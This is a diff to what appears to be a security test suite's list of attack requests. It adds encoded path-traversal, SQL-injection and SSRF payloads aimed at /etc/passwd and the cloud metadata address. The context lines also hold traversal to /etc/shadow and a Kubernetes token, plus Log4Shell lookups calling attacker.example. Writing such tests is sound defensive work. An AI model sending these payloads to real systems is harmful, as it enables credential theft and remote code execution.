@@ -68,6 +68,14 @@ ATTACKS = [
     (TRAVERSAL, get("/download?file=..%252f..%252f..%252fetc%252fshadow")),  # double encoded
     (TRAVERSAL, get("/static/%2e%2e/%2e%2e/%2e%2e/var/run/secrets/kubernetes.io/serviceaccount/token")),
     (TRAVERSAL, get("/page?inc=php://filter/convert.base64-encode/resource=index")),
+    (TRAVERSAL, get("/file?name=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")),  # overlong UTF-8
+    (TRAVERSAL, get("/file?name=....//....//....//etc/passwd")),
+    (SQLI, get("/q?s=%26%2339%3B%20or%20%26%2339%3B1%26%2339%3B%3D%26%2339%3B1")),  # URL + HTML entity layers
+    (SQLI, post(b'{"a": {"b": [{"c": "\\u0027 or 1=1--"}]}}', "application/json")),  # JSON unicode escape
+    (SSRF, get("/fetch?url=http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/")),
+    (SSRF, get("/fetch?url=http://example.com@169.254.169.254/")),
+    (SSRF, get("/fetch?url=http://0x00a9.254.0251.0xfe/")),
+    (SSRF, get("/fetch?url=http://169.254.169.254.nip.io/")),
     (TRAVERSAL, get("/view?f=..\\..\\..\\windows\\win.ini")),
     (LOG4SHELL, get("/", ("X-Api-Version", "${jndi:ldap://attacker.example/a}"))),
     (LOG4SHELL, get("/", ("User-Agent", "${${lower:j}ndi:${lower:l}dap://x.example/a}"))),
